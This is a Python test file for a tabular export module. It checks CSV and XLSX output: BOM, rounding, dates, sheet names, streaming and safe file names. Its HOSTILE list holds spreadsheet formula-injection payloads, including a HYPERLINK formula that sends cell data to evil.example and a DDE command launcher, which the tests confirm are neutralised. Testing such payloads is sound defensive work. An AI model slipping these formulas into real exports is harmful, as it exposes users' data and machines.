"""The one writer of tabular downloads: typed cells, formula disarm, CSV for Excel, XLSX."""

from __future__ import annotations

import csv
import io
from datetime import UTC, date, datetime
from decimal import Decimal

import pytest
from openpyxl import load_workbook

from goldenthread.platform.core import exporting
from goldenthread.platform.core.exporting import (
    Number,
    Sheet,
    column_date,
    column_datetime,
    column_number,
    column_text,
)

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
]
COLUMNS = (
    column_text("Code"),
    column_text("Title"),
    column_number("Value (%)", decimals=1, unit="percentage"),
    column_date("Due"),
    column_datetime("Changed at"),
)


def _rows():
    return [
        (
            "PI 1",
            HOSTILE[0],
            Decimal("72.46"),
            date(2026, 4, 1),
            datetime(2026, 6, 1, 9, tzinfo=UTC),
        ),
        ("PI 2", "Café – ü", None, None, None),
    ]


def _csv_rows(data: bytes) -> list[list[str]]:
    assert data.startswith("\ufeff".encode())
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))


def test_csv_has_a_bom_a_header_numbers_rounded_and_dates_iso():
    rows = _csv_rows(exporting.write_csv(COLUMNS, _rows()))

    assert rows[0] == ["Code", "Title", "Value (%)", "Due", "Changed at"]
    assert rows[1][2] == "72.5"  # rounded half-up to the column's one decimal
    assert rows[1][3] == "2026-04-01"
    assert rows[1][4].startswith("2026-06-01T")
    assert rows[2] == ["PI 2", "Café – ü", "", "", ""]


@pytest.mark.parametrize("hostile", HOSTILE)
def test_csv_disarms_text_a_spreadsheet_would_run(hostile):
    rows = _csv_rows(exporting.write_csv((column_text("Title"),), [(hostile,)]))

    assert rows[1] == ["'" + hostile]


def test_csv_leaves_negative_numbers_as_numbers():
    rows = _csv_rows(exporting.write_csv((column_number("Change", decimals=0),), [(-3,)]))

    assert rows[1] == ["-3"]


@pytest.mark.parametrize("hostile", HOSTILE)
def test_xlsx_stores_hostile_text_as_text_exactly(hostile):
    data = exporting.write_xlsx([Sheet("List", (column_text("Title"),), [(hostile,)])])

    cell = load_workbook(io.BytesIO(data))["List"]["A2"]
    assert cell.data_type == "s"
    # XML parsers may normalise a bare carriage return to a line feed: still text.
    assert cell.value in (hostile, hostile.replace("\r", "\n"))
    assert cell.quotePrefix


def test_xlsx_numbers_are_numbers_with_their_decimals_and_unit():
    sheet = Sheet(
        "Values",
        (column_text("PI"), column_number("Value"), column_number("Count", decimals=0)),
        [
            ("A", Number(Decimal("12.345"), 2, "money"), 7),
            ("B", Number(Decimal("80"), 1, "percentage"), 2),
        ],
    )
    workbook = load_workbook(io.BytesIO(exporting.write_xlsx([sheet])))
    values = workbook["Values"]

    assert values["B2"].value == pytest.approx(12.35)
    assert values["B2"].data_type == "n"
    assert values["B2"].number_format == '"£"#,##0.00'
    assert values["B3"].number_format == '#,##0.0" %"'
    assert values["C2"].value == 7 and values["C2"].number_format == "#,##0"
    assert values["A1"].font.bold
    assert values.freeze_panes == "A2"


def test_xlsx_dates_and_preface_and_one_sheet_each_with_safe_unique_names():
    sheets = [
        Sheet("Cover", (column_text("About"),), [], preface=("As at 1 June 2026",)),
        Sheet("Risks: a/b [all] and a very long name indeed", COLUMNS, _rows()),
        Sheet("Risks: a/b [all] and a very long name indeed", COLUMNS, []),
    ]
    workbook = load_workbook(io.BytesIO(exporting.write_xlsx(sheets)))

    assert len(workbook.sheetnames) == 3
    assert all(len(name) <= 31 and not set(name) & set("[]:*?/\\") for name in workbook.sheetnames)
    assert len({name.lower() for name in workbook.sheetnames}) == 3
    assert workbook["Cover"]["A1"].value == "As at 1 June 2026"
    assert workbook["Cover"].freeze_panes == "A3"
    data = workbook[workbook.sheetnames[1]]
    assert data["D2"].value == datetime(2026, 4, 1)
    assert data["E2"].is_date


def test_csv_streams_in_chunks():
    rows = (("PI", Decimal(n)) for n in range(1200))
    chunks = list(
        exporting.csv_chunks((column_text("A"), column_number("B")), rows, chunk_rows=500)
    )

    assert len(chunks) == 3
    assert b"".join(chunks).decode("utf-8-sig").count("\r\n") == 1201


def test_export_filename_is_safe_and_dated():
    assert (
        exporting.export_filename("PIs: all/../x", "csv", today=date(2026, 6, 1))
        == "PIs-all-..-x-2026-06-01.csv"
    )
